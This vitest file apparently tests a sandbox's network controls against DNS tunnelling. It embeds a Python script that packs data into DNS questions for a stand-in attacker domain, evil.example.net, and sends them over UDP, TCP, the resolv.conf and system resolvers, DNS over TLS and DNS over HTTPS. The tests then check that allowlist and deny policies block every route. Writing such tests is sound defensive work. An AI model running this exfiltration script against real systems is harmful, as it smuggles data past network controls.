import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { actors } from "../../support/actors.js";
import { NAME_SERVER, NetworkWorld, WORLD, whyNoWorld } from "../../support/network-world.js";
import { makeProject } from "../../support/project.js";
import { denied, runInside } from "../support/network-attack.js";

const ALLOWED = "api.example.com";
const EVIL = "evil.example.net";

/**
 * Sends data in questions, by every road there is to a name server: the system's resolver, the one in resolv.conf and
 * a public one, over UDP and TCP, in every type; over TLS and over HTTPS. Prints how many answers it got on each road.
 */
const LEAK = `
import collections, os, socket, ssl, struct, sys
server, evil = sys.argv[1:3]
got = collections.Counter()
def name(*labels): return b"".join(bytes([len(l)]) + l for l in labels) + b"\\0"
def query(labels, kind, cls=1, flags=0x0100, more=b"", extra=0):
    return struct.pack(">HHHHHH", 7, flags, 1, 0, 0, extra) + name(*labels) + struct.pack(">HH", kind, cls) + more
tail = [l.encode() for l in evil.split(".")]
number = 0
def unique():
    global number
    number += 1
    return [b"data-%d" % number] + tail
queries = [query(unique(), kind) for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 64, 65, 99, 251, 252, 255, 256, 65399)]
queries += [query(unique(), 16, 3), query(unique(), 1, 255), query(unique(), 1, 1, 0x0000), query(unique(), 1, 1, 0x0110)]
queries += [query([b"a" * 63, b"b" * 63, b"c" * 63] + tail, 16), query([b"x" * 63] + unique(), 1)]
queries += [query(unique(), 1, more=b"\\0" + struct.pack(">HHIH", 41, 1232, 0, 12) + struct.pack(">HH", 65001, 8) + b"leak-dat", extra=1)]
queries += [query([b"Secret\\x00Byte"] + tail, 1), query([b"dot.ted"] + tail, 1), query([b"\\xff\\xfe"] + tail, 1)]
def udp(to, message):
    with socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.3)
        s.connect((to, 53))
        s.send(message)
        return s.recv(4096)
def stream(s, message):
    s.sendall(struct.pack(">H", len(message)) + message)
    return s.recv(4096)
def tcp(to, message, port=53):
    with socket.create_connection((to, port), 2) as s: return stream(s, message)
def tls(port, host):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context.wrap_socket(socket.create_connection((server, port), 2), server_hostname=host)
def dot(message):
    with tls(853, "dns.example.org") as s: return stream(s, message)
def doh(message):
    with tls(443, "dns.example.org") as s:
        s.sendall(b"POST /dns-query HTTP/1.1\\r\\nHost: dns.example.org\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(message) + message)
        return s.recv(4096)
def attempt(road, work, *args):
    try: got[road] += 1 if work(*args) else 0
    except (OSError, UnicodeError): pass
resolv = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
for message in queries:
    attempt("udp", udp, server, message)
    attempt("tcp", tcp, server, message)
    if resolv != server:
        attempt("stub-udp", udp, resolv, message)
        attempt("stub-tcp", tcp, resolv, message)
for i in range(20): attempt("system", socket.getaddrinfo, "label-%d.%s" % (i, evil), 80)
attempt("dot", dot, queries[0])
attempt("doh", doh, queries[0])
print(dict(got))
`;

describe.skipIf(whyNoWorld() !== null)("N4 data in DNS questions", () => {
  let world: NetworkWorld;
  beforeAll(async () => {
    world = await NetworkWorld.start();
    const tls = world.tls("dns.example.org", NAME_SERVER);
    await world.serve(ALLOWED, [WORLD.public4], 80, { kind: "http" });
    await world.listen(NAME_SERVER, 853, { kind: "echo", tls });
    await world.listen(NAME_SERVER, 443, { kind: "http", tls });
    for (let i = 0; i < 20; i++) await world.name(`label-${i}.${EVIL}`, [WORLD.public4]);
  });
  afterAll(() => world?.stop());

  describe.each(actors)("as $name", (actor) => {
    beforeEach(() => world.takeRecord());
    const leak = ["/usr/bin/python3", "-c", LEAK, NAME_SERVER, EVIL];

    it("leaves a machine without a sandbox by every road", async () => {
      const ran = await world.runOutside(actor, leak);
      expect(ran.stdout, ran.stderr).toMatch(/'udp': 28.*'tcp': 28.*'system': 20, 'dot': 1, 'doh': 1/);
      const { queries, requests } = await world.takeRecord();
      const carrying = queries.filter(({ name }) => name.endsWith(EVIL));
      expect(carrying.filter(({ transport }) => transport === "udp").length).toBeGreaterThan(28);
      expect(carrying.filter(({ transport }) => transport === "tcp")).toHaveLength(28);
      expect(requests).toMatchObject([{ path: "/dns-query" }]);
    });

    it("does not leave a sandbox with an allowlist by any", async () => {
      const script = `${LEAK}\nprint(socket.getaddrinfo("${ALLOWED}", 80) != [])\n`;
      const argv = ["/usr/bin/python3", "-c", script, NAME_SERVER, EVIL];
      const { ran, decisions } = await runInside(world, actor, ["--allow-domain", ALLOWED], argv);
      // Its own stub answers for every server, and says no; the one name that is allowed it answers.
      expect(ran.stdout, ran.stderr).toMatch(/^\{('stub-udp'|'udp'|'tcp'|'stub-tcp'|: |\d+|, )*\}\nTrue\n$/);
      const { queries, connections } = await world.takeRecord();
      expect(new Set(queries.map(({ name }) => name))).toEqual(new Set([ALLOWED]));
      expect(queries.map(({ type }) => type).filter((type) => type !== "A" && type !== "AAAA")).toEqual([]);
      expect(connections).toEqual([]);
      const said = denied(decisions);
      for (let i = 0; i < 20; i++) expect(said).toContain(`label-${i}.${EVIL}:0`);
      expect(said).toContain(`${NAME_SERVER}:853`);
      expect(said).toContain(`${NAME_SERVER}:443`);
    });

    it("does not leave one with a network that denies the domain, not even in types that are no address", async () => {
      const text = `version: 1\nnet: { egress: true, deny: [ { domain: ${EVIL} }, { domain: "*.${EVIL}" } ] }\n`;
      const { path } = makeProject(actor, { "p.yaml": text });
      const { ran } = await runInside(world, actor, ["--policy", `${path}/p.yaml`], leak);
      expect(ran.status, ran.stderr).toBe(0);
      const { queries } = await world.takeRecord();
      expect(queries.filter(({ name }) => name.endsWith(EVIL))).toEqual([]);
    });
  });
});
